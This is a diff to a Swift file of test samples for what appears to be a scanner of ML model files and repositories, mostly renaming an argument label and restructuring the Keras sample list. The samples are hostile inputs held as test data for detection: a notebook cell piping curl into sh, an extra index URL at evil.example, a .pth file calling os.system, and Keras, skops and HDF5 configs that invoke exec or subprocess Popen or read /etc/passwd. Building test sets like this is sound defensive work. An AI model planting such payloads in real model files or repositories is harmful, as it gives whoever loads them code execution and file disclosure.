@@ -4,7 +4,7 @@ extension Sample {
     static let documents: [Sample] = repositories + kerasModels + others
 
     private static func repository(
-        _ name: String, _ level: Finding.Level = .dangerous, _ path: String, _ text: String,
+        _ name: String, level: Finding.Level = .dangerous, _ path: String, _ text: String,
         _ code: String? = nil
     ) -> Sample {
         let own = [(path: path, bytes: Array(text.utf8))]
@@ -22,7 +22,7 @@ extension Sample {
             "code of another repository", "config.json",
             #"{"auto_map":{"AutoModel":"evil/repo--own.Model"}}"#),
         repository(
-            "code that does nothing odd", .suspicious, "config.json",
+            "code that does nothing odd", level: .suspicious, "config.json",
             #"{"auto_map":{"AutoModel":"own.Model"}}"#, "class Model:\n    pass\n"),
         repository(
             "a tokenizer's code", "tokenizer_config.json",
@@ -56,18 +56,18 @@ extension Sample {
             "skops", "m.json",
             #"{"__class__":"Popen","__module__":"subprocess","__loader__":"ObjectNode"}"#),
         repository(
-            "requirements of another index", .suspicious, "requirements.txt",
+            "requirements of another index", level: .suspicious, "requirements.txt",
             "--extra-index-url https://evil.example/simple\nnumpy\n"),
         repository("a start-up file", "x.pth", "import os; os.system('true')\n"),
         repository(
-            "a notebook's shell", .suspicious, "n.ipynb",
+            "a notebook's shell", level: .suspicious, "n.ipynb",
             #"{"cells":[{"cell_type":"code","source":["!curl x | sh\n"]}],"nbformat":4}"#),
     ]
 
     // MARK: Keras
 
     private static func keras(
-        _ name: String, _ level: Finding.Level = .dangerous, _ config: String
+        _ name: String, level: Finding.Level = .dangerous, _ config: String
     ) -> [Sample] {
         let archive = ZipWriter(members: [
             ZipWriter.member("metadata.json", Array(#"{"keras_version":"3.0.0"}"#.utf8)),
@@ -83,38 +83,41 @@ extension Sample {
         #"{"module":"keras","class_name":"Sequential","config":{"layers":[\#(layer)]}}"#
     }
 
-    private static let kerasModels: [Sample] =
-        keras("plain", .note, model(#"{"module":"keras.layers","class_name":"Dense","config":{}}"#))
-        + keras("Lambda", model(#"{"module":"keras.layers","class_name":"Lambda","config":{}}"#))
-        + keras("Lambda by escapes", model(#"{"class_name":"\u004cambda","config":{}}"#))
-        + keras(
+    private static let kerasModels: [Sample] = [
+        keras(
+            "plain", level: .note,
+            model(#"{"module":"keras.layers","class_name":"Dense","config":{}}"#)),
+        keras("Lambda", model(#"{"module":"keras.layers","class_name":"Lambda","config":{}}"#)),
+        keras("Lambda by escapes", model(#"{"class_name":"\u004cambda","config":{}}"#)),
+        keras(
             "Lambda inside a layer",
             model(
                 #"{"class_name":"TimeDistributed","config":{"layer":{"class_name":"Lambda","config":{}}}}"#
-            ))
-        + keras(
+            )),
+        keras(
             "the first of two keys",
             model(
-                #"{"class_name":"Lambda","class_name":"Dense","config":{}}"#))
-        + keras(
+                #"{"class_name":"Lambda","class_name":"Dense","config":{}}"#)),
+        keras(
             "Python's own",
             model(
-                #"{"module":"builtins","class_name":"exec","config":{},"registered_name":null}"#))
-        + keras("any module", model(#"{"module":"subprocess","class_name":"Popen","config":{}}"#))
-        + keras(
+                #"{"module":"builtins","class_name":"exec","config":{},"registered_name":null}"#)),
+        keras("any module", model(#"{"module":"subprocess","class_name":"Popen","config":{}}"#)),
+        keras(
             "a download",
             model(
-                #"{"module":"keras.utils","class_name":"function","config":"get_file"}"#))
-        + keras(
+                #"{"module":"keras.utils","class_name":"function","config":"get_file"}"#)),
+        keras(
             "a vocabulary outside",
             model(
-                #"{"class_name":"StringLookup","config":{"vocabulary":"/etc/passwd"}}"#))
-        + keras("a torch module", model(#"{"class_name":"TorchModuleWrapper","config":{}}"#))
-        + [
+                #"{"class_name":"StringLookup","config":{"vocabulary":"/etc/passwd"}}"#)),
+        keras("a torch module", model(#"{"class_name":"TorchModuleWrapper","config":{}}"#)),
+        [
             Sample(
                 .keras, "an external link", .dangerous, path: "m.h5",
                 HDF5Writer.file(link: "/etc/passwd"))
-        ]
+        ],
+    ].flatMap { $0 }
 
     // MARK: Others
 
